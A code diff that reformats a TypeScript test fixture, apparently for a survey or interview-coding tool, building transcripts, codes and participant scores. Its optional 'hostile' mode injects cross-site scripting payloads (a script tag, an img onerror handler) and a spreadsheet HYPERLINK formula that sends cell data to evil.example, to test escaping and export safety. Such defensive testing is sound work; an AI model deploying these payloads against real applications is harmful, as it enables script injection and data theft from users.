@@ -9,14 +9,19 @@ import { codingWorkspace } from '../codingFixtures';
 export async function reportFixture(hostile = false) {
   const ws = await codingWorkspace();
   const { call } = ws;
-  const t0 = hostile ? '<script>window.__pwned=1</script> The price is too high <img src=x onerror="window.__pwned=2">' : 'The price is too high for what you get.';
+  const t0 = hostile
+    ? '<script>window.__pwned=1</script> The price is too high <img src=x onerror="window.__pwned=2">'
+    : 'The price is too high for what you get.';
   const doc = ws.transcript([
     ['Ana', t0],
     ['Ben', 'Prices are too high and delivery was late.'],
     ['Ana', hostile ? '=HYPERLINK("http://evil.example/?"&A1,"click") good value overall' : 'Still, the quality is good value overall.'],
     ['Cai', 'Delivery was on time for me.'],
   ]);
-  const price = await call('codes:create', { name: hostile ? 'Price <b>&amp;<i>' : 'Price', description: { definition: 'Anything about what things cost.' } });
+  const price = await call('codes:create', {
+    name: hostile ? 'Price <b>&amp;<i>' : 'Price',
+    description: { definition: 'Anything about what things cost.' },
+  });
   const tooExpensive = await call('codes:create', { name: 'Too expensive', parentId: price.id });
   const goodValue = await call('codes:create', { name: 'Good value', parentId: price.id });
   const delivery = await call('codes:create', { name: 'Delivery' });
@@ -25,7 +30,12 @@ export async function reportFixture(hostile = false) {
   const people = new Map((await call('participants:list', {})).map((p) => [p.displayName, p.id]));
   const dee = await call('participants:create', { displayName: 'Dee' });
   people.set('Dee', dee.id);
-  const values: [string, number, string][] = [['Ana', 10, 'Urban'], ['Ben', 3, 'Rural'], ['Cai', 8, 'Urban'], ['Dee', 2, 'Urban']];
+  const values: [string, number, string][] = [
+    ['Ana', 10, 'Urban'],
+    ['Ben', 3, 'Rural'],
+    ['Cai', 8, 'Urban'],
+    ['Dee', 2, 'Urban'],
+  ];
   for (const [name, score, area] of values) {
     await call('participants:setValue', { participantId: people.get(name)!, attributeId: nps.id, value: score });
     await call('participants:setValue', { participantId: people.get(name)!, attributeId: segment.id, value: area });
